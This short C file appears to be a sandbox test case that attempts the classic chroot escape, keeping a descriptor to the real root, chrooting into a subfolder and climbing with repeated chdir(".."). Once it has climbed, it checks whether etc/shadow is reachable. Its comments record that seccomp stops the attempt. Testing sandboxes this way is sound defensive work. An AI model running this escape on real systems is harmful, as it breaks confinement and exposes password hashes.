// Tries: the classic way out of a root, chroot below an open folder and ".." upwards.
// Stopped by: seccomp; and pivot_root left nothing above this root.
// Outcome: forbidden_syscall
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
  int top = open("/", O_RDONLY);
  mkdir("inner", 0700);
  if (chroot("inner") == 0 && fchdir(top) == 0) {
    for (int i = 0; i < 100; ++i) (void)!chdir("..");
    if (access("etc/shadow", F_OK) == 0) puts("ESCAPED: above the root");
  }
  return 0;
}
